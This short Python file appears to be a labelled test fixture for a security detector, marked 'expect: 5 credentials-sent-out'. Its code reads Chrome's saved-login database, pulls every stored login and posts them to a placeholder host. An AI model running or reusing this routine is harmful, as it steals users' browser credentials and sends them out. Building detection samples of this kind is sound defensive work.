# expect: 5 credentials-sent-out
import os, shutil, sqlite3, requests
source = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default", "Login Data")
rows = sqlite3.connect(source).execute("SELECT * FROM logins").fetchall()
requests.post("https://h.invalid/x", json=rows)
